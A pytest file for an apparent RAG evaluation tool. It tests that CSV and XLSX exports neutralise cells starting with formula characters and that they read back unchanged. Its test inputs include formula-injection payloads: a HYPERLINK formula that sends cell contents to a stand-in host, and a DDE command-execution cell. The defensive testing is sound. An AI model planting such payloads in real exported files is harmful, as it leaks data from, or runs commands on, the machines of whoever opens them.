"""Files written for spreadsheets (issue 14 defect 9, issue 15 defect 9).

``cases.csv`` has distinct column names; cells a spreadsheet would run as a formula are
neutralised in ``cases.csv`` and in ``datasets export --to *.csv`` (and read back losslessly);
an XLSX export keeps the manifest; ``ragwacht report`` prints an absolute path; a run without a
project root says where its outputs went.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ragwacht.cli.app import app
from ragwacht.datasets import load_golden_set
from ragwacht.datasets._cells import neutralise, unneutralise
from ragwacht.datasets.io import export_golden_set, import_golden_set, write_cases
from ragwacht.datasets.models import GoldenCase
from ragwacht.evals.run import write_case_table
from tests.helpers.datasets import MINI
from tests.helpers.records import make_record

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://127.0.0.2/x?"&A1,"klik")',
    "+31 20 123 4567",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
    "'plain apostrophe",
    "gewone tekst",
]


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_round_trip(text: str) -> None:
    out = neutralise(text)
    assert out[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unneutralise(out) == text


def test_cases_csv_has_distinct_columns_and_no_formulas(tmp_path: Path) -> None:
    rec = make_record(
        {"faithfulness": [1.0, 0.5, 0.0], "latency_ms": [120.0, 130.0, 140.0]},
        case_ids=["=cmd|'/c calc'!A1", "q2", "@q3"],
        answers=['=HYPERLINK("http://127.0.0.2")', "-1 dag", "gewoon"],
        tags=[["+topic:x"], ["lang:nl"], []],
    )
    rows = _csv_rows(write_case_table(rec, tmp_path / "cases.csv"))
    header = rows[0]
    assert len(header) == len(set(header)), header
    assert header.count("latency_ms") == 1 and "metric:latency_ms" in header
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not _is_number(cell)), cell
    assert rows[1][0] == "'=cmd|'/c calc'!A1" and rows[1][4].startswith("'=HYPERLINK")
    assert rows[2][4] == "'-1 dag" and rows[3][0] == "'@q3" and rows[1][1] == "'+topic:x"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hostile_cases() -> list[GoldenCase]:
    return [
        GoldenCase(
            id=f"-id{i}" if i % 2 else f"id{i}",
            question=text,
            reference_answer=HOSTILE[(i + 1) % len(HOSTILE)],
            tags=["@tag", "lang:nl"] if i % 3 == 0 else [],
        )
        for i, text in enumerate(HOSTILE)
    ]


def test_dataset_csv_export_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    cases = _hostile_cases()
    src = write_cases(cases, tmp_path / "src.jsonl")
    out = tmp_path / "out.csv"
    code = runner.invoke(app, ["datasets", "export", str(src), "--to", str(out)]).exit_code
    assert code == 0
    for row in _csv_rows(out)[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    back = load_golden_set(out)
    assert [c.model_dump() for c in back.cases] == [c.model_dump() for c in cases]
    assert back.digest == load_golden_set(src).digest


def test_xlsx_export_keeps_the_manifest_and_neutralises(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    src = tmp_path / "mini"
    shutil.copytree(MINI, src)
    manifest = (src / "dataset.yaml").read_text(encoding="utf-8")
    (src / "dataset.yaml").write_text(
        manifest.replace("description: Vier", "description: =Vier"), encoding="utf-8"
    )
    original = load_golden_set(src)
    xlsx = tmp_path / "mini.xlsx"
    export_golden_set(src, xlsx)
    wb = load_workbook(xlsx)
    assert wb.sheetnames == ["cases", "dataset"]
    desc = next(r for r in wb["dataset"].iter_rows() if r[0].value == "description")[1]
    assert desc.value == original.manifest.description and desc.quotePrefix
    back = import_golden_set(xlsx, tmp_path / "again")
    for key in ("description", "owner", "licence", "language", "version"):
        assert getattr(back.manifest, key) == getattr(original.manifest, key), key
    assert back.manifest.description.startswith("=Vier")
    assert back.digest == original.digest
    assert "licence: EUPL-1.2" in (tmp_path / "again" / "dataset.yaml").read_text("utf-8")


def test_report_prints_an_absolute_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rec = make_record({"faithfulness": [1.0, 0.0]})
    (tmp_path / "out").mkdir()
    rec.save(tmp_path / "out" / "run.json")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["report", "out/run.json", "--lang", "en"])
    assert result.exit_code == 0, result.output
    printed = Path(result.stdout.strip())
    assert printed.is_absolute() and printed == (tmp_path / "out" / "report.html")
    assert printed.is_file()


def test_a_run_without_project_root_says_where_its_outputs_went(tmp_path: Path) -> None:
    from ragwacht.evals.run import RunOptions, run_suite
    from tests.unit.test_run_preflight import _project

    suite = _project(tmp_path)
    out = run_suite(suite, RunOptions(mlflow=False, progress=False))
    assert out.out_dir == tmp_path / "reports" / "mini" / "default"
    notes = [w for w in out.record.warnings if "no project root" in w]
    assert notes and str(out.out_dir) in notes[0] and str(tmp_path / ".ragwacht") in notes[0]
    # with a marker the folder is the project root, and nothing needs saying
    (tmp_path / "ragwacht.yaml").write_text("", encoding="utf-8")
    again = run_suite(suite, RunOptions(mlflow=False, progress=False))
    assert not [w for w in again.record.warnings if "no project root" in w]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_text_starting_with_a_quote_survives_a_round_trip(tmp_path: Path, suffix: str) -> None:
    # Hypothesis found "'=": XLSX keeps exact text (quotePrefix), so its reader must not take
    # off a ' that only the CSV writer adds.
    from ragwacht.datasets.io import load_cases, write_cases
    from ragwacht.datasets.models import GoldenCase

    texts = ["'=", "''=1+1", "'@x", "'", "=SUM(A1)"]
    cases = [GoldenCase(id=str(i), question=t) for i, t in enumerate(texts)]
    back = load_cases(write_cases(cases, tmp_path / f"cases{suffix}"))
    assert [c.question for c in back] == texts
